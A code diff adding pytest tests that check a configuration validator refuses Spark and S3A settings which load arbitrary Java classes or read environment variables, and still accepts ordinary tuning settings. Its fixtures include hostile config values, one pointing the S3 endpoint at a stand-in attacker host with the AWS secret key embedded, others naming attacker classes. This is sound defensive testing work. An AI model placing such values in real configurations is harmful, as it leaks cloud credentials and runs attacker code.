@@ -347,6 +347,46 @@ def test_spark_conf_that_loads_code_is_refused_in_the_project_file(tmp_path: Pat
         assert code == 1 and f"spark.conf key '{key}' is not allowed" in output, output
 
 
+@pytest.mark.parametrize(("entry", "fragment"), [
+    ("spark.hadoop.fs.s3a.custom.signers: evil:org.evil.Signer", "is not allowed"),
+    ("spark.hadoop.fs.s3a.signing-algorithm: EvilSigner", "is not allowed"),
+    ("spark.hadoop.fs.s3a.delegation.token.binding: org.evil.Binding", "is not allowed"),
+    ("spark.hadoop.fs.s3a.audit.request.handlers: org.evil.Handler", "is not allowed"),
+    ("spark.hadoop.fs.s3a.audit.execution.interceptors: org.evil.Interceptor",
+     "is not allowed"),
+    ("spark.hadoop.fs.s3a.bucket.b.aws.credentials.provider: org.evil.P", "is not allowed"),
+    ("spark.shuffle.manager: org.evil.ShuffleManager", "is not allowed"),
+    ("spark.hadoop.fs.s3a.endpoint: 'http://attacker/${env.AWS_SECRET_ACCESS_KEY}'",
+     "a value holding '${' is not allowed"),
+    ("spark.sql.session.timeZone: '${env:AWS_SECRET_ACCESS_KEY}'",
+     "a value holding '${' is not allowed"),
+    ("spark.io.compression.codec: org.evil.Codec", "a value naming a Java class"),
+], ids=["signers", "signing", "delegation", "audit-handlers", "sdk-interceptors",
+        "per-bucket-provider", "shuffle-manager", "hadoop-substitution", "spark-substitution",
+        "class-value"])
+def test_spark_conf_that_names_classes_or_reads_the_environment_is_refused(
+        tmp_path: Path, entry: str, fragment: str) -> None:
+    """S3A's settings and Spark's own take classes, signers and `${...}` references too."""
+    project = project_with(tmp_path, "create view v as select id from t;\n", {
+        "reconcile.yaml": "spark:\n  conf:\n    spark.sql.shuffle.partitions: 4\n"
+                          f"    {entry}\n"})
+    code, output = run(project, "validate")
+    key = entry.split(":", 1)[0]
+    assert code == 1 and f"reconcile.yaml:4: spark.conf key '{key}'" in output, output
+    assert fragment in output and len(output.strip().splitlines()) == 1, output
+
+
+def test_spark_conf_tuning_and_storage_settings_stay_allowed(tmp_path: Path) -> None:
+    project = project_with(tmp_path, "create view v as select id from t;\n", {
+        "reconcile.yaml": "spark:\n  conf:\n    spark.sql.shuffle.partitions: 4\n"
+                          "    spark.io.compression.codec: zstd\n"
+                          "    spark.hadoop.fs.s3a.endpoint: http://127.0.0.1:9000\n"
+                          "    spark.hadoop.fs.s3a.path.style.access: true\n"
+                          "    spark.hadoop.fs.s3a.endpoint.region: eu-west-1\n"})
+    code, output = run(project, "validate")
+    assert code == 0, output
+
+
 # -- what the JVM and its Python workers inherit ----------------------------------------------
 
 ENGINE_PROBE = """
